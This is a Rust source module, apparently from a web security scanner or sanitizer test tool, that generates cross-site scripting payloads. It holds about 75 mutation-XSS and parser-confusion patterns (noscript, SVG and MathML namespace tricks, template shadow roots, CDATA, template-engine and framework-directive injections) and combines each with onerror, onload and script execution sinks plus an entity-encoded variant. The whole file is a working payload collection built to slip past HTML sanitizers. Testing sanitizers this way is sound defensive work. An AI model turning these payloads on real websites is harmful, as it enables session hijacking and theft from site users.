//! Markup that means something else when it is read a second time, in another namespace, or with scripts off.

/// `R` is what runs.
const PATTERNS: &[&str] = &[
    "<noscript><p title=\"</noscript>R\">",
    "<noembed><p title=\"</noembed>R\">",
    "<noframes><p title=\"</noframes>R\">",
    "<xmp><p title=\"</xmp>R\">",
    "<style><p title=\"</style>R\">",
    "<title><p title=\"</title>R\">",
    "<textarea><p title=\"</textarea>R\">",
    "<iframe><p title=\"</iframe>R\">",
    "<script><p title=\"</script>R\">",
    "<!--<p title=\"-->R\">",
    "<![CDATA[<p title=\"]]>R\">",
    "<svg><![CDATA[<p title=\"]]>R\"></svg>",
    "<svg></p><style><a id=\"</style>R\">",
    "<math></p><style><a id=\"</style>R\">",
    "<svg><style><!--</style>R--></style>",
    "<svg><style>R</style></svg>",
    "<svg><title>R</title></svg>",
    "<svg><desc>R</desc></svg>",
    "<svg><foreignObject>R</foreignObject></svg>",
    "<math><annotation-xml encoding=text/html>R</annotation-xml></math>",
    "<math><mi>R</mi></math>",
    "<math><mtext><table><mglyph><style><math>R</style>",
    "<math><mtext><table><mglyph><style><!--</style>R",
    "<form><math><mtext></form><form><mglyph><style></math>R",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style>R\">",
    "<svg><p><style><g title=\"</style>R\">",
    "<template><s><template><s>R</template>R",
    "<template shadowrootmode=open>R</template>",
    "<div><template shadowrootmode=open>R</template></div>",
    "<select><template>R</template></select>",
    "<select><style></select>R</style>",
    "<select><noscript></select>R",
    "<table><a href=\"R\"></table>",
    "<table><script></table>R",
    "<table><caption>R",
    "<frameset><noframes>R</noframes></frameset>",
    "<option><style></option></select>R</style>",
    "<a id=\"1\"><table><a id=\"2\">R",
    "<p><b><i></p>R",
    "<b><a><b></a>R</b>",
    "<font color=x><svg><font color=x>R",
    "<svg><b>R</svg>",
    "<details><summary>R",
    "<dialog open>R</dialog>",
    "<object><param><p>R</object>",
    "<button><button>R",
    "<plaintext>R",
    "<listing>\nR</listing>",
    "<pre>\n\nR</pre>",
    "<ruby><rt>R",
    "<isindex prompt=\"R\">",
    "<keygen autofocus onfocus=@>",
    "<applet>R</applet>",
    "<a name=x id=x>R",
    "<img name=getElementById>R",
    "<form id=x><input name=attributes>R</form>",
    "<base target=\"R\">",
    "<?xml version=\"1.0\"?>R",
    "<?php R ?>",
    "<!DOCTYPE x [<!ENTITY y \"R\">]>&y;",
    "<!ELEMENT R>",
    "</ R>",
    "<//R>",
    "<%R%>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">@</x:script>",
    "{{R}}",
    "{{constructor.constructor('@')()}}",
    "${R}",
    "<%= R %>",
    "#{R}",
    "[[R]]",
    "{% raw %}R{% endraw %}",
    "<div v-html=\"'R'\" :x=@ @click=@>x</div>",
    "<div x-data x-init=\"@\" hx-on:load=\"@\">x</div>",
    "<div ng-app ng-init=@>x</div>",
];

pub(in crate::payloads) fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    for pattern in PATTERNS {
        for run in [
            "<img src=x onerror=@>",
            "<svg onload=@>",
            "<script>@</script>",
        ] {
            all.push(pattern.replace('R', run));
        }
        // Encoded once, for whoever decodes once too often.
        let once = pattern.replace('R', "<img src=x onerror=@>");
        all.push(
            once.replace('&', "&amp;")
                .replace('<', "&lt;")
                .replace('>', "&gt;"),
        );
    }
    all
}
